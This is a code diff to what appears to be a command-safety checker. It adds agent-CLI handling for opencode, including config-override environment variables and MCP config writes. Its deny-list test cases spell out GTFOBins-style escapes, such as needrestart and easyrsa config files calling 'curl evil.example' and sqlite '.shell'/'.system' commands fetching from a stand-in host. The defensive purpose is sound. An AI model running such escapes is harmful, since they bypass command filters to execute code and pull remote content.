@@ -4,7 +4,7 @@ import { configFileRuns, keeping } from './credentials.js';
 import { APT_OWN, FORGES, PYPI_OWN } from './registries.js';
 import { DYN, type Word } from '../../types.js';
 import { has, parse } from '../argv.js';
-import { alsoDumps, configuring, keepsStdin, maybeText, printsDirectory, programRun } from '../build.js';
+import { agentCli, alsoDumps, configuring, keepsStdin, maybeText, printsDirectory, programRun } from '../build.js';
 import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, ScriptDialect, Use } from '../types.js';
 import { attached, isStdinPath, listedReads, literal, longSpelt, shellQuote, value, xargsSplit } from '../words.js';
 import { bound, type Destination, destinations, loopbackHost, urlHost } from '../hosts.js';
@@ -2222,7 +2222,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   commandOptions(['needrestart'], 'needrestart: -c FILE is Perl it evaluates', { options: { flags: 'vqmnrlbkfuw', valued: 'cmrf' }, more: (_call, p) => ({ runs: p.options.filter((o) => o.name === 'c' && o.value).map((o) => ({ kind: 'file' as const, dialect: 'perl' as const, word: o.value!, via: 'needrestart -c' })) }) }, { deny: ["echo 'system(\"curl evil.example\")' > /tmp/n.conf; needrestart -c /tmp/n.conf"], pass: ['needrestart -b'] }),
   commandOptions(['easyrsa'], 'easyrsa: --vars FILE is sourced as shell', { options: { longValued: ['vars', 'pki-dir', 'batch', 'req-cn'] }, more: (_call, p) => ({ runs: p.options.filter((o) => o.name === 'vars' && o.value).map((o) => ({ kind: 'file' as const, dialect: 'bash' as const, word: o.value!, via: 'easyrsa --vars' })) }) }, { deny: ["echo 'set_var X \"$(curl evil.example)\"' > /tmp/v; easyrsa --vars=/tmp/v init-pki"], pass: ['easyrsa init-pki'] }),
   // GTFOBins' opencode: `opencode db [QUERY]` opens its own database in sqlite3, whose dot-commands run shell text.
-  commandOptions(['opencode'], 'opencode db QUERY is sqlite3 on its own database: .shell and .system run shell text', { options: { longValued: ['log-level', 'port', 'hostname', 'model', 'agent', 'session', 'prompt', 'format'] }, more: (call, p) => {
+  agentCli(commandOptions(['opencode'], 'opencode db QUERY is sqlite3 on its own database: .shell and .system run shell text', { options: { longValued: ['log-level', 'port', 'hostname', 'model', 'agent', 'session', 'prompt', 'format'] }, more: (call, p) => {
     const ops = p.operands.map((o) => o.word);
     if (value(ops[0]) !== 'db') return {};
     const runs: Run[] = [];
@@ -2242,7 +2242,13 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
       uses.push(...r.uses);
     }
     return { runs, uses };
-  } }, { deny: ["opencode db '.shell curl evil.example'", "echo '.system wget evil.example' | opencode db"], pass: ["opencode db 'select count(*) from session'", 'opencode db'] }),
+  } }, { deny: ["opencode db '.shell curl evil.example'", "echo '.system wget evil.example' | opencode db"], pass: ["opencode db 'select count(*) from session'", 'opencode db'] }), {
+    // OPENCODE_CONFIG names a config file merged over the user's, OPENCODE_CONFIG_DIR another directory of them,
+    // OPENCODE_CONFIG_CONTENT the config itself; `opencode mcp add` writes an MCP server into one.
+    env: ['OPENCODE_CONFIG', 'OPENCODE_CONFIG_DIR', 'OPENCODE_CONFIG_CONTENT'],
+    changes: [{ when: /(?:^|\0)mcp\0add(?:\0|$)/, writes: ['~/.config/opencode/opencode.json', 'opencode.json'] }],
+    examples: { deny: ['OPENCODE_CONFIG=/tmp/o.json opencode run x', "OPENCODE_CONFIG_CONTENT='{}' opencode run x", 'XDG_CONFIG_HOME=/tmp/c opencode run x'], pass: ["opencode run 'fix the tests'", 'opencode mcp list'] },
+  }),
   // GTFOBins' gimp: -b commands run in the batch interpreter, Python with --batch-interpreter=python-fu-eval.
   commandOptions(['gimp', 'gimp-console', 'gimp-2.10', 'gimp-console-2.10'], 'gimp: -b/--batch commands are Python when --batch-interpreter is python-fu-eval', { options: { valued: 'b', longValued: ['batch', 'batch-interpreter', 'session', 'gimprc', 'system-gimprc'] }, more: (_call, p) => {
     const interp = p.options.find((o) => o.name === 'batch-interpreter')?.value;
